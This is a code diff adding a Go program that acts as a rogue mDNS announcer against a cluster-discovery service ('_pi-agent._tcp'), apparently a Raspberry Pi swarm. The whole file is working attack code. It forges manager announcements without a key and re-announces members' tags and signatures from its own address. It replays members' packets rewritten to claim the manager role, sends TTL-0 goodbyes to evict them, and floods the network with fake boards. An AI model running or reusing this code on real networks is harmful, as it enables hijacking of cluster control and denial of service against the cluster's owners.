@@ -1,0 +1,76 @@
+package main
+
+import (
+	"fmt"
+	"log"
+	"math/rand/v2"
+	"net"
+	"time"
+
+	"github.com/miekg/dns"
+	"golang.org/x/net/ipv4"
+)
+
+// lie announces, in each round: the rogue as a manager without a key; the same with the tag and the signature of each
+// member that was heard; the member's own announcement, sent again from here, as it was, as that of a manager, and as a
+// goodbye; and a crowd of boards that do not exist.
+func (r *rogue) lie(group *ipv4.PacketConn, pause time.Duration, crowd int) {
+	for range time.Tick(pause) {
+		packets := [][]byte{r.announcement(serial, "pi", "", "")}
+		for _, v := range r.victims() {
+			packets = append(packets, v.packet, stolen(v.packet, 120), stolen(v.packet, 0))
+			packets = append(packets, r.announcement(serial, v.cluster, v.tag, v.mac))
+		}
+		for range crowd {
+			n := rand.Uint64()
+			name, tag := fmt.Sprintf("c%x", n>>32), fmt.Sprintf("%012x", n>>16)
+			packets = append(packets, r.announcement(fmt.Sprintf("%016x", n), name, tag, "AAAAAAAAAAAAAAAAAAAAAA"))
+		}
+		for _, p := range packets {
+			if _, err := group.WriteTo(p, nil, mdnsGroup); err != nil {
+				log.Print(err)
+			}
+		}
+	}
+}
+
+func (r *rogue) announcement(serial, cluster, tag, mac string) []byte {
+	host := "pi-" + serial
+	instance := host + "._pi-agent._tcp.local."
+	head := func(name string, kind uint16) dns.RR_Header {
+		return dns.RR_Header{Name: name, Rrtype: kind, Class: dns.ClassINET, Ttl: 120}
+	}
+	txt := []string{"v=1", "serial=" + serial, "cluster=" + cluster, "state=manager", "swarm=" + swarmID}
+	if tag != "" {
+		txt = append(txt, "tag="+tag, "mac="+mac)
+	}
+	return pack(&dns.Msg{MsgHdr: dns.MsgHdr{Response: true, Authoritative: true}, Compress: true, Answer: []dns.RR{
+		&dns.PTR{Hdr: head("_pi-agent._tcp.local.", dns.TypePTR), Ptr: instance},
+		&dns.SRV{Hdr: head(instance, dns.TypeSRV), Port: 2378, Target: host + ".local."},
+		&dns.TXT{Hdr: head(instance, dns.TypeTXT), Txt: txt},
+		&dns.A{Hdr: head(host+".local.", dns.TypeA), A: net.IP(r.addr.AsSlice())},
+	}})
+}
+
+// stolen is a member's announcement that says that it is a manager, for this lifetime; 0 makes a goodbye of it.
+func stolen(packet []byte, ttl uint32) []byte {
+	var msg dns.Msg
+	if msg.Unpack(packet) != nil {
+		return packet
+	}
+	for _, rr := range msg.Answer {
+		rr.Header().Ttl = ttl
+		if txt, ok := rr.(*dns.TXT); ok && ttl > 0 {
+			txt.Txt = append([]string{"state=manager"}, txt.Txt...) // the first one counts
+		}
+	}
+	return pack(&msg)
+}
+
+func pack(msg *dns.Msg) []byte {
+	p, err := msg.Pack()
+	if err != nil {
+		log.Fatal(err)
+	}
+	return p
+}
